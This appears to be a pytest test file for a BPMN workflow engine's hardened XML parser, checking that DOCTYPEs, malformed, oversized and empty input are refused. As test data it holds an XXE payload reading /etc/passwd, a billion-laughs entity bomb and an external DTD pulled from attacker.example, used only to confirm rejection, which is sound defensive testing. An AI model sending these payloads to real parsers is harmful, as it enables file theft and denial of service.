"""engine.bpmn.safe_xml: untrusted XML is parsed without entities, DTDs or network, or refused."""

from __future__ import annotations

import pytest

from engine.bpmn.errors import DiagramError
from engine.bpmn.safe_xml import MAX_DIAGRAM_BYTES, parse_diagram_xml

from .diagrams import review_diagram

BPMN_ROOT_OPEN = '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">'

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
{BPMN_ROOT_OPEN}<bpmn:process id="P" name="&secret;"/></bpmn:definitions>"""

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
{BPMN_ROOT_OPEN}<bpmn:process id="P" name="&lol9;"/></bpmn:definitions>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
{BPMN_ROOT_OPEN}<bpmn:process id="P"/></bpmn:definitions>"""


def test_a_valid_diagram_parses_to_its_definitions_root():
    root = parse_diagram_xml(review_diagram())
    assert root.tag == "{http://www.omg.org/spec/BPMN/20100524/MODEL}definitions"
    assert root.find(".//{*}scriptTask").sourceline > 1


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_any_doctype_is_refused(document):
    with pytest.raises(DiagramError) as caught:
        parse_diagram_xml(document)
    assert "DOCTYPE declarations are not allowed" in caught.value.reason
    assert caught.value.line == 2
    assert "root:" not in str(caught.value)  # nothing from /etc/passwd leaked into the message


def test_doctype_hidden_by_a_utf16_encoding_is_still_refused():
    document = XXE.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    for encoding in ("utf-16-le", "utf-16-be"):
        with pytest.raises(DiagramError, match="DOCTYPE declarations are not allowed") as caught:
            parse_diagram_xml(document.encode(encoding))
        assert caught.value.line == 2


def test_malformed_xml_names_lxmls_message_and_the_line():
    broken = review_diagram().replace("</bpmn:scriptTask>", "</bpmn:scriptTsk>")
    with pytest.raises(DiagramError) as caught:
        parse_diagram_xml(broken)
    error = caught.value
    assert "malformed" in error.reason and "scriptTsk" in error.reason
    expected_line = next(n for n, text in enumerate(broken.splitlines(), 1) if "scriptTsk" in text)
    assert error.line == expected_line
    assert f"line {expected_line}" in str(error)


def test_wrong_root_element_is_refused():
    with pytest.raises(DiagramError, match="root must be bpmn:definitions"):
        parse_diagram_xml("<definitions><process id='P'/></definitions>")
    with pytest.raises(DiagramError, match="root must be bpmn:definitions"):
        parse_diagram_xml('<bpmn:process xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="P"/>')


def test_oversized_input_is_refused_before_parsing():
    padding = "<!-- " + "x" * MAX_DIAGRAM_BYTES + " -->"
    with pytest.raises(DiagramError, match="the limit is"):
        parse_diagram_xml(review_diagram().replace("<bpmn:definitions", padding + "<bpmn:definitions", 1))


def test_empty_input_is_refused():
    with pytest.raises(DiagramError, match="empty"):
        parse_diagram_xml(b"  ")


def test_text_with_an_encoding_declaration_is_accepted():
    text = review_diagram().replace('encoding="UTF-8"', 'encoding="GB18030"').replace("Review", "复核")
    root = parse_diagram_xml(text)
    assert root.find(".//{*}userTask").get("name") == "复核"


def test_diagram_error_is_one_sentence_and_a_dict():
    error = DiagramError("condition on sequence flow 'Flow_3' uses '__class__'", element_id="Flow_3", line=7,
                         code="bad_expression", params={"what": "condition", "detail": "uses '__class__'"})
    assert str(error) == (
        "diagram refused: condition on sequence flow 'Flow_3' uses '__class__' (element Flow_3, line 7)"
    )
    assert error.to_dict() == {"reason": "condition on sequence flow 'Flow_3' uses '__class__'",
                               "element_id": "Flow_3", "line": 7, "code": "bad_expression",
                               "params": {"what": "condition", "detail": "uses '__class__'"}}
    assert DiagramError("something").to_dict()["code"] == "diagram_invalid"  # a problem of no particular kind
    assert str(DiagramError("no process")) == "diagram refused: no process"
